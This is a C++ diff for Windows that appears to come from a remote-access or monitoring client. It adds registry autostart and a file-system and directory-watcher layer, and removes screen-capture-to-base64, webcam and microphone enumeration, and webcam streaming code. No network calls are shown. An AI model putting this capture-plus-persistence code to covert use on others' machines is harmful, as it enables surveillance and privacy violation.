+        std::wstring value = L"\"" + appPath + L"\"";
+        result = RegSetValueExW(hKey, Config::APP_NAME, 0, REG_SZ,
+            (const BYTE*)value.c_str(),
+            (DWORD)((value.length() + 1) * sizeof(wchar_t)));
+        RegCloseKey(hKey);
+        return (result == ERROR_SUCCESS);
     }
+    return false;
+}
 
-    if (i) {
-        for (j = i; j < 3; j++)
-            char_array_3[j] = '\0';
+// ============ Files ============
 
-        char_array_4[0] = (char_array_3[0] & 0xfc) >> 2;
-        char_array_4[1] = ((char_array_3[0] & 0x03) << 4) + ((char_array_3[1] & 0xf0) >> 4);
-        char_array_4[2] = ((char_array_3[1] & 0x0f) << 2) + ((char_array_3[2] & 0xc0) >> 6);
-        char_array_4[3] = char_array_3[2] & 0x3f;
+namespace {
 
-        for (j = 0; (j < i + 1); j++)
-            ret += base64_chars[char_array_4[j]];
+// GetLastError as the failing call left it; cleanup on the way out may overwrite the real one.
+thread_local DWORD t_lastFileError = ERROR_SUCCESS;
 
-        while (i++ < 3)
-            ret += '=';
-    }
+bool Fail() {
+    t_lastFileError = GetLastError();
+    return false;
+}
 
-    return ret;
+bool Succeed() {
+    t_lastFileError = ERROR_SUCCESS;
+    return true;
 }
 
-int GetEncoderClsid(const WCHAR* format, CLSID* pClsid) {
-    UINT  num = 0;          // number of image encoders
-    UINT  size = 0;         // size of the image encoder array in bytes
+// FILETIME counts 100ns intervals since 1601.
+const unsigned long long FILETIME_UNIX_EPOCH = 116444736000000000ULL;
 
-    GetImageEncodersSize(&num, &size);
-    if (size == 0) return -1;  // Failure
+unsigned long long UnixNs(const FILETIME& time) {
+    ULARGE_INTEGER ticks;
+    ticks.LowPart = time.dwLowDateTime;
+    ticks.HighPart = time.dwHighDateTime;
+    return ticks.QuadPart > FILETIME_UNIX_EPOCH ? (ticks.QuadPart - FILETIME_UNIX_EPOCH) * 100 : 0;
+}
 
-    ImageCodecInfo* pImageCodecInfo = (ImageCodecInfo*)(malloc(size));
-    if (pImageCodecInfo == NULL) return -1;  // Failure
+FILETIME ToFileTime(unsigned long long ns) {
+    ULARGE_INTEGER ticks;
+    ticks.QuadPart = ns / 100 + FILETIME_UNIX_EPOCH;
+    return { ticks.LowPart, ticks.HighPart };
+}
 
-    GetImageEncoders(num, size, pImageCodecInfo);
+FileInfo InfoOf(DWORD attributes, DWORD sizeHigh, DWORD sizeLow, const FILETIME& created, const FILETIME& accessed, const FILETIME& written) {
+    FileInfo info;
+    info.isDir = (attributes & FILE_ATTRIBUTE_DIRECTORY) != 0;
+    info.isLink = (attributes & FILE_ATTRIBUTE_REPARSE_POINT) != 0;
+    if (attributes & FILE_ATTRIBUTE_READONLY) info.attributes |= PATH_ATTR_READONLY;
+    if (attributes & FILE_ATTRIBUTE_HIDDEN) info.attributes |= PATH_ATTR_HIDDEN;
+    if (attributes & FILE_ATTRIBUTE_SYSTEM) info.attributes |= PATH_ATTR_SYSTEM;
+    info.size = info.isDir ? 0 : ((unsigned long long)sizeHigh << 32) | sizeLow;
+    info.createdAt = UnixNs(created);
+    info.accessedAt = UnixNs(accessed);
+    info.modifiedAt = UnixNs(written);
+    return info;
+}
 
-    for (UINT j = 0; j < num; ++j) {
-        if (wcscmp(pImageCodecInfo[j].MimeType, format) == 0) {
-            *pClsid = pImageCodecInfo[j].Clsid;
-            free(pImageCodecInfo);
-            return j;  // Success
-        }
+} // namespace
+
+FileError LastFileError() {
+    switch (t_lastFileError) {
+    case ERROR_SUCCESS: return FileError::None;
+    case ERROR_FILE_NOT_FOUND:
+    case ERROR_PATH_NOT_FOUND: return FileError::NotFound;
+    case ERROR_ACCESS_DENIED:
+    case ERROR_DIRECTORY: return FileError::AccessDenied;
+    case ERROR_FILE_EXISTS:
+    case ERROR_ALREADY_EXISTS: return FileError::Exists;
+    case ERROR_DIR_NOT_EMPTY: return FileError::NotEmpty;
+    case ERROR_NOT_SAME_DEVICE: return FileError::CrossDevice;
+    default: return FileError::Other;
     }
+}
 
-    free(pImageCodecInfo);
-    return -1;  // Failure
+unsigned long LastFileErrorCode() {
+    return t_lastFileError;
 }
 
-std::string CaptureScreenBase64() {
-    int x1 = GetSystemMetrics(SM_XVIRTUALSCREEN);
-    int y1 = GetSystemMetrics(SM_YVIRTUALSCREEN);
-    int x2 = GetSystemMetrics(SM_CXVIRTUALSCREEN);
-    int y2 = GetSystemMetrics(SM_CYVIRTUALSCREEN);
+bool PathGetInfo(const std::wstring& path, FileInfo& info) {
+    WIN32_FILE_ATTRIBUTE_DATA data;
+    if (!GetFileAttributesExW(path.c_str(), GetFileExInfoStandard, &data)) return Fail();
+    info = InfoOf(data.dwFileAttributes, data.nFileSizeHigh, data.nFileSizeLow, data.ftCreationTime, data.ftLastAccessTime, data.ftLastWriteTime);
+    return Succeed();
+}
 
-    HDC hScreen = GetDC(NULL);
-    HDC hDC = CreateCompatibleDC(hScreen);
-    HBITMAP hBitmap = CreateCompatibleBitmap(hScreen, x2, y2);
-    HGDIOBJ old_obj = SelectObject(hDC, hBitmap);
+bool PathDeleteFile(const std::wstring& path) {
+    return DeleteFileW(path.c_str()) ? Succeed() : Fail();
+}
 
-    BitBlt(hDC, 0, 0, x2, y2, hScreen, x1, y1, SRCCOPY);
+bool PathRemoveDir(const std::wstring& path) {
+    return RemoveDirectoryW(path.c_str()) ? Succeed() : Fail();
+}
 
-    // Draw mouse cursor
-    CURSORINFO ci = { sizeof(CURSORINFO) };
-    if (GetCursorInfo(&ci) && (ci.flags & CURSOR_SHOWING)) {
-        ICONINFO ii = { sizeof(ICONINFO) };
-        if (GetIconInfo(ci.hCursor, &ii)) {
-            DrawIcon(hDC, ci.ptScreenPos.x - x1 - ii.xHotspot, ci.ptScreenPos.y - y1 - ii.yHotspot, ci.hCursor);
-            if (ii.hbmMask) DeleteObject(ii.hbmMask);
-            if (ii.hbmColor) DeleteObject(ii.hbmColor);
-        }
-    }
+bool PathCreateDir(const std::wstring& path) {
+    return CreateDirectoryW(path.c_str(), nullptr) ? Succeed() : Fail();
+}
 
-    // Create GDI+ Bitmap from HBITMAP
-    Bitmap* bitmap = new Bitmap(hBitmap, NULL);
+bool PathCreateDirs(const std::wstring& path) {
+    int result = SHCreateDirectoryExW(nullptr, path.c_str(), nullptr);
+    if (result == ERROR_SUCCESS || result == ERROR_ALREADY_EXISTS) return Succeed();
+    SetLastError((DWORD)result);
+    return Fail();
+}
 
-    // Save to memory stream
-    IStream* pStream = NULL;
-    CreateStreamOnHGlobal(NULL, TRUE, &pStream);
+bool PathSetAttributes(const std::wstring& path, unsigned attributes) {
+    DWORD native = 0;
+    if (attributes & PATH_ATTR_READONLY) native |= FILE_ATTRIBUTE_READONLY;
+    if (attributes & PATH_ATTR_HIDDEN) native |= FILE_ATTRIBUTE_HIDDEN;
+    if (attributes & PATH_ATTR_SYSTEM) native |= FILE_ATTRIBUTE_SYSTEM;
+    return SetFileAttributesW(path.c_str(), native ? native : FILE_ATTRIBUTE_NORMAL) ? Succeed() : Fail();
+}
 
-    CLSID clsid;
-    GetEncoderClsid(L"image/png", &clsid);
+bool PathMove(const std::wstring& from, const std::wstring& to, unsigned flags) {
+    DWORD native = 0;
+    if (flags & PATH_MOVE_REPLACE) native |= MOVEFILE_REPLACE_EXISTING;
+    if (flags & PATH_MOVE_WRITE_THROUGH) native |= MOVEFILE_WRITE_THROUGH;
+    return MoveFileExW(from.c_str(), to.c_str(), native) ? Succeed() : Fail();
+}
 
-    // Resize down if too big to save bandwidth (Optional, keeping full res for now but good to note)
-    // For now we'll save as PNG to the stream
-    bitmap->Save(pStream, &clsid, NULL);
+std::wstring GetTempDirectory() {
+    wchar_t path[MAX_PATH + 1];
+    DWORD length = GetTempPathW(MAX_PATH + 1, path);
+    return length > 0 && length <= MAX_PATH ? std::wstring(path, length) : std::wstring(L".\\");
+}
 
-    // Get bytes from stream
-    LARGE_INTEGER liZero = {};
-    ULARGE_INTEGER pos = {};
-    pStream->Seek(liZero, STREAM_SEEK_SET, &pos);
+struct File {
+    HANDLE handle = INVALID_HANDLE_VALUE;
+};
 
-    // Get size
-    STATSTG statstg;
-    pStream->Stat(&statstg, STATFLAG_NONAME);
-    ULONG streamSize = (ULONG)statstg.cbSize.QuadPart;
+File* FileOpen(const std::wstring& path, FileMode mode, unsigned hints) {
+    DWORD access = GENERIC_READ | GENERIC_WRITE;
+    DWORD share = FILE_SHARE_READ;
+    DWORD disposition = OPEN_EXISTING;
+    switch (mode) {
+    case FileMode::Read: access = GENERIC_READ; share = FILE_SHARE_READ | FILE_SHARE_DELETE; break;
+    case FileMode::ReadShared: access = GENERIC_READ; share = FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE; break;
+    case FileMode::Create: disposition = CREATE_ALWAYS; break;
+    case FileMode::CreateNew: disposition = CREATE_NEW; break;
+    case FileMode::OpenOrCreate: disposition = OPEN_ALWAYS; break;
+    }
+    DWORD flags = FILE_ATTRIBUTE_NORMAL;
+    if (hints & FILE_HINT_SEQUENTIAL) flags |= FILE_FLAG_SEQUENTIAL_SCAN;
+    if (hints & FILE_HINT_RANDOM) flags |= FILE_FLAG_RANDOM_ACCESS;
+    if (hints & FILE_HINT_UNBUFFERED) flags |= FILE_FLAG_NO_BUFFERING;
+
+    HANDLE handle = CreateFileW(path.c_str(), access, share, nullptr, disposition, flags, nullptr);
+    if (handle == INVALID_HANDLE_VALUE) {
+        Fail();
+        return nullptr;
+    }
+    File* file = new File();
+    file->handle = handle;
+    Succeed();
+    return file;
+}
 
-    std::vector<BYTE> buffer(streamSize);
-    ULONG bytesRead;
-    pStream->Seek(liZero, STREAM_SEEK_SET, &pos);
-    pStream->Read(buffer.data(), streamSize, &bytesRead);
-
-    // Clean up
-    pStream->Release();
-    delete bitmap;
-    SelectObject(hDC, old_obj);
-    DeleteObject(hBitmap);
-    DeleteDC(hDC);
-    ReleaseDC(NULL, hScreen);
-
-    return Base64Encode(buffer.data(), buffer.size());
+void FileClose(File* file) {
+    if (!file) return;
+    CloseHandle(file->handle);
+    delete file;
 }
 
-std::vector<std::string> EnumerateWebcams() {
-    std::vector<std::string> devices;
-    if (FAILED(MFStartup(MF_VERSION))) return devices;
+bool FileRead(File* file, void* buffer, size_t size, size_t& bytesRead) {
+    DWORD done = 0;
+    bytesRead = 0;
+    if (!ReadFile(file->handle, buffer, (DWORD)std::min<size_t>(size, 1u << 30), &done, nullptr)) return Fail();
+    bytesRead = done;
+    return Succeed();
+}
 
-    IMFAttributes* pAttributes = nullptr;
-    if (SUCCEEDED(MFCreateAttributes(&pAttributes, 1))) {
-        pAttributes->SetGUID(MF_DEVSOURCE_ATTRIBUTE_SOURCE_TYPE, MF_DEVSOURCE_ATTRIBUTE_SOURCE_TYPE_VIDCAP_GUID);
+bool FileReadAt(File* file, void* buffer, size_t size, unsigned long long offset, size_t& bytesRead) {
+    OVERLAPPED at = {};
+    at.Offset = (DWORD)offset;
+    at.OffsetHigh = (DWORD)(offset >> 32);
+    DWORD done = 0;
+    bytesRead = 0;
+    if (!ReadFile(file->handle, buffer, (DWORD)std::min<size_t>(size, 1u << 30), &done, &at)) {
+        // Past the end a positioned read fails with EOF rather than reading nothing.
+        return GetLastError() == ERROR_HANDLE_EOF ? Succeed() : Fail();
+    }
+    bytesRead = done;
+    return Succeed();
+}
 
-        IMFActivate** ppDevices = nullptr;
-        UINT32 count = 0;
-        if (SUCCEEDED(MFEnumDeviceSources(pAttributes, &ppDevices, &count))) {
-            for (UINT32 i = 0; i < count; i++) {
-                WCHAR* name = nullptr;
-                UINT32 length = 0;
-                if (SUCCEEDED(ppDevices[i]->GetAllocatedString(MF_DEVSOURCE_ATTRIBUTE_FRIENDLY_NAME, &name, &length))) {
-                    char buf[512];
-                    WideCharToMultiByte(CP_UTF8, 0, name, -1, buf, sizeof(buf), nullptr, nullptr);
-                    devices.push_back(std::string(buf));
-                    CoTaskMemFree(name);
-                } else {
-                    devices.push_back("Camera " + std::to_string(i + 1));
-                }
-                ppDevices[i]->Release();
-            }
-            CoTaskMemFree(ppDevices);
+bool FileWrite(File* file, const void* data, size_t size) {
+    const BYTE* at = (const BYTE*)data;
+    while (size > 0) {
+        DWORD chunk = (DWORD)std::min<size_t>(size, 1u << 30);
+        DWORD written = 0;
+        if (!WriteFile(file->handle, at, chunk, &written, nullptr)) return Fail();
+        if (written == 0) {
+            SetLastError(ERROR_WRITE_FAULT);
+            return Fail();
         }
-        pAttributes->Release();
+        at += written;
+        size -= written;
     }
-    MFShutdown();
-    return devices;
+    return Succeed();
 }
 
-std::vector<std::string> EnumerateMicrophones() {
-    std::vector<std::string> devices;
-    HRESULT hrCoInit = CoInitializeEx(NULL, COINIT_MULTITHREADED);
+bool FileGetSize(File* file, unsigned long long& size) {
+    LARGE_INTEGER native;
+    if (!GetFileSizeEx(file->handle, &native)) return Fail();
+    size = (unsigned long long)native.QuadPart;
+    return Succeed();
+}
 
-    IMMDeviceEnumerator* pEnumerator = nullptr;
-    if (SUCCEEDED(CoCreateInstance(__uuidof(MMDeviceEnumerator), NULL, CLSCTX_ALL, __uuidof(IMMDeviceEnumerator), (void**)&pEnumerator))) {
-        IMMDeviceCollection* pCollection = nullptr;
-        if (SUCCEEDED(pEnumerator->EnumAudioEndpoints(eCapture, DEVICE_STATE_ACTIVE, &pCollection))) {
-            UINT count = 0;
-            pCollection->GetCount(&count);
-            for (UINT i = 0; i < count; i++) {
-                IMMDevice* pEndpoint = nullptr;
-                if (SUCCEEDED(pCollection->Item(i, &pEndpoint))) {
-                    IPropertyStore* pProps = nullptr;
-                    if (SUCCEEDED(pEndpoint->OpenPropertyStore(STGM_READ, &pProps))) {
-                        PROPVARIANT varName;
-                        PropVariantInit(&varName);
-                        if (SUCCEEDED(pProps->GetValue(PKEY_Device_FriendlyName, &varName))) {
-                            char buf[512];
-                            WideCharToMultiByte(CP_UTF8, 0, varName.pwszVal, -1, buf, sizeof(buf), nullptr, nullptr);
-                            devices.push_back(std::string(buf));
-                            PropVariantClear(&varName);
-                        } else {
-                           devices.push_back("Microphone " + std::to_string(i+1));
-                        }
-                        pProps->Release();
-                    }
-                    pEndpoint->Release();
-                }
-            }
-            pCollection->Release();
+bool FileSeek(File* file, unsigned long long offset) {
+    LARGE_INTEGER position;
+    position.QuadPart = (LONGLONG)offset;
+    return SetFilePointerEx(file->handle, position, nullptr, FILE_BEGIN) ? Succeed() : Fail();
+}
+
+bool FileSetEnd(File* file, unsigned long long size) {
+    FILE_END_OF_FILE_INFO end;
+    end.EndOfFile.QuadPart = (LONGLONG)size;
+    return SetFileInformationByHandle(file->handle, FileEndOfFileInfo, &end, sizeof(end)) ? Succeed() : Fail();
+}
+
+bool FileReserve(File* file, unsigned long long size) {
+    FILE_ALLOCATION_INFO allocation;
+    allocation.AllocationSize.QuadPart = (LONGLONG)size;
+    return SetFileInformationByHandle(file->handle, FileAllocationInfo, &allocation, sizeof(allocation)) ? Succeed() : Fail();
+}
+
+bool FileFlush(File* file) {
+    return FlushFileBuffers(file->handle) ? Succeed() : Fail();
+}
+
+bool FileGetInfo(File* file, FileInfo& info) {
+    BY_HANDLE_FILE_INFORMATION data;
+    if (!GetFileInformationByHandle(file->handle, &data)) return Fail();
+    info = InfoOf(data.dwFileAttributes, data.nFileSizeHigh, data.nFileSizeLow, data.ftCreationTime, data.ftLastAccessTime, data.ftLastWriteTime);
+    return Succeed();
+}
+
+bool FileSetTimes(File* file, unsigned long long createdAt, unsigned long long accessedAt, unsigned long long modifiedAt) {
+    FILETIME created = ToFileTime(createdAt), accessed = ToFileTime(accessedAt), written = ToFileTime(modifiedAt);
+    return SetFileTime(file->handle, createdAt ? &created : nullptr, accessedAt ? &accessed : nullptr,
+        modifiedAt ? &written : nullptr) ? Succeed() : Fail();
+}
+
+bool FileGetIdentity(File* file, FileIdentity& identity) {
+    BY_HANDLE_FILE_INFORMATION data;
+    if (!GetFileInformationByHandle(file->handle, &data)) return Fail();
+    identity.volume = data.dwVolumeSerialNumber;
+    identity.index = ((unsigned long long)data.nFileIndexHigh << 32) | data.nFileIndexLow;
+    return Succeed();
+}
+
+// The view keeps the mapping alive, so its handle can go at once.
+const void* FileMapView(File* file, size_t size) {
+    HANDLE mapping = CreateFileMappingW(file->handle, nullptr, PAGE_READONLY, 0, 0, nullptr);
+    if (!mapping) {
+        Fail();
+        return nullptr;
+    }
+    const void* view = MapViewOfFile(mapping, FILE_MAP_READ, 0, 0, size);
+    if (!view) Fail();
+    CloseHandle(mapping);
+    return view;
+}
+
+void FileUnmapView(const void* view, size_t /*size*/) {
+    if (view) UnmapViewOfFile(view);
+}
+
+struct DirScan {
+    HANDLE find = INVALID_HANDLE_VALUE;
+    WIN32_FIND_DATAW data;
+    bool pending = false;                        // data holds an entry not returned yet
+};
+
+DirScan* DirScanOpen(const std::wstring& dir, const std::wstring& pattern) {
+    std::wstring searchPath = dir;
+    if (!searchPath.empty() && searchPath.back() != PATH_SEPARATOR) searchPath += PATH_SEPARATOR;
+    searchPath += pattern.empty() ? L"*" : pattern;
+    DirScan* scan = new DirScan();
+    // Basic info skips the 8.3 names and large fetch asks for bigger batches per call.
+    scan->find = FindFirstFileExW(searchPath.c_str(), FindExInfoBasic, &scan->data,
+        FindExSearchNameMatch, nullptr, FIND_FIRST_EX_LARGE_FETCH);
+    if (scan->find == INVALID_HANDLE_VALUE && GetLastError() != ERROR_FILE_NOT_FOUND) {
+        Fail();
+        delete scan;
+        return nullptr;
+    }
+    scan->pending = scan->find != INVALID_HANDLE_VALUE;
+    Succeed();
+    return scan;
+}
+
+bool DirScanNext(DirScan* scan, std::wstring& name, FileInfo& info) {
+    while (scan->pending) {
+        const WIN32_FIND_DATAW& data = scan->data;
+        bool dots = wcscmp(data.cFileName, L".") == 0 || wcscmp(data.cFileName, L"..") == 0;
+        if (!dots) {
+            name = data.cFileName;
+            info = InfoOf(data.dwFileAttributes, data.nFileSizeHigh, data.nFileSizeLow, data.ftCreationTime, data.ftLastAccessTime, data.ftLastWriteTime);
         }
-        pEnumerator->Release();
+        scan->pending = FindNextFileW(scan->find, &scan->data) != FALSE;
+        if (!dots) return true;
     }
-    if (SUCCEEDED(hrCoInit)) CoUninitialize();
-    return devices;
+    return false;
 }
 
-std::vector<BYTE> CaptureScreenBytes(int quality) {
-    HDC hScreen = GetDC(NULL);
-    HDC hDC = CreateCompatibleDC(hScreen);
-    
-    int x1 = GetSystemMetrics(SM_XVIRTUALSCREEN);
-    int y1 = GetSystemMetrics(SM_YVIRTUALSCREEN);
-    int x2 = GetSystemMetrics(SM_CXVIRTUALSCREEN);
-    int y2 = GetSystemMetrics(SM_CYVIRTUALSCREEN);
+void DirScanClose(DirScan* scan) {
+    if (!scan) return;
+    if (scan->find != INVALID_HANDLE_VALUE) FindClose(scan->find);
+    delete scan;
+}
 
-    HBITMAP hBitmap = CreateCompatibleBitmap(hScreen, x2, y2);
-    HGDIOBJ old_obj = SelectObject(hDC, hBitmap);
+namespace {
 
-    BitBlt(hDC, 0, 0, x2, y2, hScreen, x1, y1, SRCCOPY);
+struct Watch {
+    unsigned long long id = 0;
+    HANDLE dir = INVALID_HANDLE_VALUE;
+    OVERLAPPED overlapped = {};
+    std::vector<DWORD> buffer;                   // DWORD-aligned, as the API requires
+    bool armed = false;                          // A read is pending on overlapped
+    bool removed = false;                        // Closed; freed once the cancelled read completes
+};
 
-    // Draw mouse cursor
-    CURSORINFO ci = { sizeof(CURSORINFO) };
-    if (GetCursorInfo(&ci) && (ci.flags & CURSOR_SHOWING)) {
-        ICONINFO ii = { sizeof(ICONINFO) };
-        if (GetIconInfo(ci.hCursor, &ii)) {
-            DrawIcon(hDC, ci.ptScreenPos.x - x1 - ii.xHotspot, ci.ptScreenPos.y - y1 - ii.yHotspot, ci.hCursor);
-            if (ii.hbmMask) DeleteObject(ii.hbmMask);
-            if (ii.hbmColor) DeleteObject(ii.hbmColor);
+// Queues the next read of changes; the completion lands on the port keyed by the watch.
+bool ArmWatch(Watch& watch) {
+    watch.overlapped = {};
+    watch.armed = ReadDirectoryChangesW(watch.dir, watch.buffer.data(), (DWORD)(watch.buffer.size() * sizeof(DWORD)), FALSE,
+        FILE_NOTIFY_CHANGE_FILE_NAME | FILE_NOTIFY_CHANGE_DIR_NAME | FILE_NOTIFY_CHANGE_SIZE | FILE_NOTIFY_CHANGE_LAST_WRITE,
+        nullptr, &watch.overlapped, nullptr) != FALSE;
+    return watch.armed;
+}
+
+DirChangeKind ChangeKindOf(DWORD action) {
+    switch (action) {
+    case FILE_ACTION_ADDED: return DirChangeKind::Added;
+    case FILE_ACTION_REMOVED: return DirChangeKind::Removed;
+    case FILE_ACTION_RENAMED_OLD_NAME: return DirChangeKind::RenamedFrom;
+    case FILE_ACTION_RENAMED_NEW_NAME: return DirChangeKind::RenamedTo;
+    default: return DirChangeKind::Modified;
+    }
+}
+
+} // namespace
+
+// Every watch's reads complete on one port, keyed by the watch; key 0 is a wake. A removed
+// watch with a read pending lives on until the read completes, since the OVERLAPPED is its own.
+struct DirWatcher {
+    HANDLE port = nullptr;
+    size_t bufferBytes = 0;
+    std::mutex mutex;
+    std::unordered_map<unsigned long long, Watch*> watches;
+    size_t closing = 0;                          // Removed watches whose read hasn't completed
+    std::deque<unsigned long long> ended;        // Changes reported, then the re-arm failed
+
+    // Called with mutex held.
+    void Drop(Watch* watch) {
+        watches.erase(watch->id);
+        CloseHandle(watch->dir);
+        if (watch->armed) {
+            watch->removed = true;
+            closing++;
+        } else {
+            delete watch;
         }
     }
-    Bitmap* bitmap = new Bitmap(hBitmap, NULL);
-    
-    IStream* pStream = NULL;
-    CreateStreamOnHGlobal(NULL, TRUE, &pStream);
-    
-    CLSID clsid;
-    GetEncoderClsid(L"image/jpeg", &clsid);
-    
-    EncoderParameters encoderParams;
-    encoderParams.Count = 1;
-    encoderParams.Parameter[0].Guid = EncoderQuality;
-    encoderParams.Parameter[0].Type = EncoderParameterValueTypeLong;
-    encoderParams.Parameter[0].NumberOfValues = 1;
-    ULONG qual = (ULONG)quality;
-    encoderParams.Parameter[0].Value = &qual;
+};
 
-    bitmap->Save(pStream, &clsid, &encoderParams);
-    
-    LARGE_INTEGER liZero = {};
-    pStream->Seek(liZero, STREAM_SEEK_SET, NULL);
-    
-    STATSTG statstg;
-    pStream->Stat(&statstg, STATFLAG_NONAME);
-    ULONG streamSize = (ULONG)statstg.cbSize.QuadPart;
-    
-    std::vector<BYTE> buffer(streamSize);
-    ULONG bytesRead;
-    pStream->Read(buffer.data(), streamSize, &bytesRead);
-    
-    pStream->Release();
-    delete bitmap;
-    SelectObject(hDC, old_obj);
-    DeleteObject(hBitmap);
-    DeleteDC(hDC);
-    ReleaseDC(NULL, hScreen);
-    
-    return buffer;
+DirWatcher* DirWatcherCreate(size_t bufferBytes) {
+    HANDLE port = CreateIoCompletionPort(INVALID_HANDLE_VALUE, nullptr, 0, 1);
+    if (!port) {
+        Fail();
+        return nullptr;
+    }
+    DirWatcher* watcher = new DirWatcher();
+    watcher->port = port;
+    watcher->bufferBytes = bufferBytes;
+    return watcher;
 }
 
-class WebcamStreamer {
-    IMFSourceReader* pReader = nullptr;
-    IMFMediaSource* pSource = nullptr;
-    IMFAttributes* pAttributes = nullptr;
-    IMFActivate** ppDevices = nullptr;
-    UINT32 count = 0;
-    UINT32 width = 0, height = 0;
-    LONG stride = 0;
-    bool initialized = false;
-    bool m_use32Bit = false;
-    int m_deviceIndex = 0;
-public:
-    WebcamStreamer(int index) : m_deviceIndex(index) { MFStartup(MF_VERSION); }
-    ~WebcamStreamer() {
-        if (pReader) pReader->Release();
-        if (pSource) pSource->Release();
-        if (pAttributes) pAttributes->Release();
-        if (ppDevices) {
-            for (UINT32 i = 0; i < count; i++) ppDevices[i]->Release();
-            CoTaskMemFree(ppDevices);
-        }
-        MFShutdown();
+bool DirWatchAdd(DirWatcher* watcher, const std::wstring& dir, unsigned long long id) {
+    Watch* watch = new Watch();
+    watch->id = id;
+    watch->buffer.resize(std::max<size_t>(watcher->bufferBytes / sizeof(DWORD), 1));
+    watch->dir = CreateFileW(dir.c_str(), FILE_LIST_DIRECTORY, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE,
+        nullptr, OPEN_EXISTING, FILE_FLAG_BACKUP_SEMANTICS | FILE_FLAG_OVERLAPPED, nullptr);
+    if (watch->dir == INVALID_HANDLE_VALUE) {
+        Fail();
+        delete watch;
+        return false;
+    }
+    std::lock_guard<std::mutex> lock(watcher->mutex);
+    if (!CreateIoCompletionPort(watch->dir, watcher->port, (ULONG_PTR)watch, 0) || !ArmWatch(*watch)) {
+        Fail();
+        CloseHandle(watch->dir);
+        delete watch;
+        return false;
     }
+    watcher->watches[id] = watch;
+    return Succeed();
+}
 
-    bool Initialize(int deviceIndex) {
-        if (initialized) return true;
-        
-        printf("[Webcam] Initializing device index %d...\n", deviceIndex);
-        
-        HRESULT hr = MFCreateAttributes(&pAttributes, 1);
-        if (FAILED(hr)) {
-            printf("[Webcam] Failed to create attributes: 0x%08X\n", hr);
-            return false;
-        }
+void DirWatchRemove(DirWatcher* watcher, unsigned long long id) {
+    std::lock_guard<std::mutex> lock(watcher->mutex);
+    auto it = watcher->watches.find(id);
+    if (it != watcher->watches.end()) watcher->Drop(it->second);
+}
 
-        hr = pAttributes->SetGUID(MF_DEVSOURCE_ATTRIBUTE_SOURCE_TYPE, MF_DEVSOURCE_ATTRIBUTE_SOURCE_TYPE_VIDCAP_GUID);
-        if (FAILED(hr)) {
-            printf("[Webcam] Failed to set VIDCAP attribute: 0x%08X\n", hr);
-            return false;
+DirWatchEvent DirWatcherWait(DirWatcher* watcher, unsigned long long& id, std::vector<DirChange>& changes) {
+    changes.clear();
+    for (;;) {
+        {
+            std::lock_guard<std::mutex> lock(watcher->mutex);
+            if (!watcher->ended.empty()) {
+                id = watcher->ended.front();
+                watcher->ended.pop_front();
+                return DirWatchEvent::Ended;
+            }
         }
 
-        hr = MFEnumDeviceSources(pAttributes, &ppDevices, &count);
-        if (FAILED(hr)) {
-            printf("[Webcam] Failed to enum devices: 0x%08X\n", hr);
-            return false;
+        DWORD bytes = 0;
+        ULONG_PTR key = 0;
+        OVERLAPPED* overlapped = nullptr;
+        BOOL ok = GetQueuedCompletionStatus(watcher->port, &bytes, &key, &overlapped, INFINITE);
+        DWORD error = ok ? ERROR_SUCCESS : GetLastError();
+        if (!key) return DirWatchEvent::Woken;
+
+        std::lock_guard<std::mutex> lock(watcher->mutex);
+        Watch* watch = (Watch*)key;
+        watch->armed = false;
+        if (watch->removed) {
+            delete watch;
+            watcher->closing--;
+            continue;
         }
-
-        if (count == 0 || deviceIndex >= (int)count) {
-            printf("[Webcam] Device index %d out of range (count: %d)\n", deviceIndex, count);
-            return false;
+        id = watch->id;
+        DirWatchEvent event;
+        if (ok && bytes > 0) {
+            const BYTE* records = (const BYTE*)watch->buffer.data();
+            for (DWORD offset = 0;;) {
+                const FILE_NOTIFY_INFORMATION* info = (const FILE_NOTIFY_INFORMATION*)(records + offset);
+                changes.push_back({ ChangeKindOf(info->Action), std::wstring(info->FileName, info->FileNameLength / sizeof(WCHAR)) });
+                if (info->NextEntryOffset == 0) break;
+                offset += info->NextEntryOffset;
+            }
+            event = DirWatchEvent::Changes;
+        } else if (ok || error == ERROR_NOTIFY_ENUM_DIR) {
+            // The change buffer overflowed, or the directory is being deleted, which the
+            // next read reports.
+            event = DirWatchEvent::Overflow;
+        } else {
+            // Typically the directory itself was deleted or its volume went away.
+            watcher->Drop(watch);
+            return DirWatchEvent::Ended;
         }
-
-        hr = ppDevices[deviceIndex]->ActivateObject(IID_PPV_ARGS(&pSource));
-        if (FAILED(hr)) {
-            printf("[Webcam] Failed to activate device: 0x%08X\n", hr);
-            return false;
+        if (!ArmWatch(*watch)) {
+            watcher->Drop(watch);
+            if (event == DirWatchEvent::Overflow) return DirWatchEvent::Ended;
+            watcher->ended.push_back(id);
         }
+        return event;
+    }
+}
 
-        IMFAttributes* pReaderAttrs = nullptr;
-        hr = MFCreateAttributes(&pReaderAttrs, 1);
-        if (SUCCEEDED(hr)) {
-            pReaderAttrs->SetUINT32(MF_SOURCE_READER_ENABLE_VIDEO_PROCESSING, TRUE);
-            pReaderAttrs->SetUINT32(MF_READWRITE_ENABLE_HARDWARE_TRANSFORMS, TRUE);
-        }
+void DirWatcherWake(DirWatcher* watcher) {
+    PostQueuedCompletionStatus(watcher->port, 0, 0, nullptr);
+}
 
-        hr = MFCreateSourceReaderFromMediaSource(pSource, pReaderAttrs, &pReader);
-        if (pReaderAttrs) pReaderAttrs->Release();
+// Closes every watch and waits for their reads to be cancelled.
+void DirWatcherClose(DirWatcher* watcher) {
+    if (!watcher) return;
+    std::unique_lock<std::mutex> lock(watcher->mutex);
+    while (!watcher->watches.empty()) watcher->Drop(watcher->watches.begin()->second);
+    while (watcher->closing > 0) {
+        lock.unlock();
+        DWORD bytes = 0;
+        ULONG_PTR key = 0;
+        OVERLAPPED* overlapped = nullptr;
+        GetQueuedCompletionStatus(watcher->port, &bytes, &key, &overlapped, INFINITE);
+        lock.lock();
+        if (!key) continue;
+        delete (Watch*)key;
+        watcher->closing--;
+    }
+    lock.unlock();
+    CloseHandle(watcher->port);
+    delete watcher;
+}
 
-        if (FAILED(hr)) {
-            printf("[Webcam] Failed to create source reader: 0x%08X\n", hr);
-            return false;
-        }
+struct DirNotifier {
+    HANDLE change = INVALID_HANDLE_VALUE;        // INVALID_HANDLE_VALUE when only woken
+    HANDLE wake = nullptr;                       // Manual reset, so a wake stays
+};
 
-        // Setup format
-        hr = pReader->SetStreamSelection(MF_SOURCE_READER_ALL_STREAMS, FALSE);
